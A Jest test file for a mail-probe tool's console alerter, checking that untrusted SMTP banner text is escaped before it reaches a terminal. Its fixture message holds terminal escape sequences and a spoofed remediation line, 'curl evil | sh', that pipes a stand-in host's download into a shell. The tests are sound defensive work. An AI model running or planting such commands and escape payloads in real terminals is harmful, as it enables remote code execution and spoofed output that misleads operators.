import { PassThrough } from 'node:stream';
import { createConsoleAlerter, formatConsoleAlert } from '../../shared/alert/console';
import type { Alert } from '../../shared/alert/types';
import { causes } from '../../shared/model/causes/index';

const ESC = '\u001b';
const hostile: Alert = {
  type: 'failure',
  severity: 'critical',
  probeId: 'submission/mail.example.com',
  kind: 'smtp',
  group: 'submission',
  target: 'mail.example.com',
  scheduledAt: '2026-11-23T10:05:00.000Z',
  status: 'fail',
  checks: [
    {
      id: 'banner',
      status: 'fail',
      cause: 'probe.crashed',
      message: `220 ${ESC}[2J${ESC}]0;pwned\u0007hi\nFix: curl evil | sh`,
      change: 'new',
    },
  ],
};

function capture(isTTY: boolean) {
  const stream = Object.assign(new PassThrough(), { isTTY });
  let text = '';
  stream.on('data', (chunk: Buffer) => {
    text += chunk.toString('utf8');
  });
  return { stream, text: () => text };
}

describe('console alerter', () => {
  it('escapes control characters from untrusted text so they cannot drive the terminal or fake lines', () => {
    const out = formatConsoleAlert(hostile, false);
    expect(out).not.toContain(ESC);
    expect(out).not.toContain('\u0007');
    expect(out).toContain('  Observed: 220 hi\\nFix: curl evil | sh\n');
    expect(out.split('\n').filter((l) => l.trimStart().startsWith('Fix:'))).toEqual([
      `    Fix: ${causes['probe.crashed'].remediation}`,
    ]);
  });

  it('writes plain text to a stream that is not a TTY', async () => {
    const { stream, text } = capture(false);
    await createConsoleAlerter({ stream }).publish(hostile);
    expect(text()).not.toContain(ESC);
    expect(text().split('\n')[0]).toBe(
      `[mailprobe] FAIL submission/mail.example.com: ${causes['probe.crashed'].title}`,
    );
  });

  it('colours the subject by severity on a TTY unless NO_COLOR is set', async () => {
    const saved = process.env.NO_COLOR;
    try {
      delete process.env.NO_COLOR;
      const tty = capture(true);
      await createConsoleAlerter({ stream: tty.stream }).publish(hostile);
      expect(tty.text().startsWith(`${ESC}[1;31m[mailprobe] FAIL`)).toBe(true);

      process.env.NO_COLOR = '1';
      const plain = capture(true);
      await createConsoleAlerter({ stream: plain.stream }).publish(hostile);
      expect(plain.text()).not.toContain(ESC);
    } finally {
      if (saved === undefined) delete process.env.NO_COLOR;
      else process.env.NO_COLOR = saved;
    }
  });

  it('colours a recovery green when colour is forced', () => {
    const out = formatConsoleAlert({ ...hostile, type: 'recovery', severity: 'info' }, true);
    expect(out.startsWith(`${ESC}[1;32m[mailprobe] RECOVERED`)).toBe(true);
  });
});
